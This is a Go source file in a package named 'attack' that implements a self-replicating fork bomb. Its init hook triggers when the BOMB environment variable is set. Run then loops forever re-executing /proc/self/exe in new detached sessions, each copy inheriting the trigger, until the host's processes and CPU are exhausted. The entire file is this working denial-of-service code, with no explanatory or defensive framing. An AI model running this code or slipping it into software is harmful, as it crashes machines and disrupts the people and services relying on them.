package attack

import (
	"os"
	"syscall"
)

func init() {
	if os.Getenv("BOMB") != "" {
		Run()
	}
}

func Run() {
	attributes := &syscall.ProcAttr{Env: append(os.Environ(), "BOMB=1"), Files: []uintptr{0, 1, 2}, Sys: &syscall.SysProcAttr{Setsid: true}}
	for {
		syscall.ForkExec("/proc/self/exe", os.Args, attributes)
	}
}
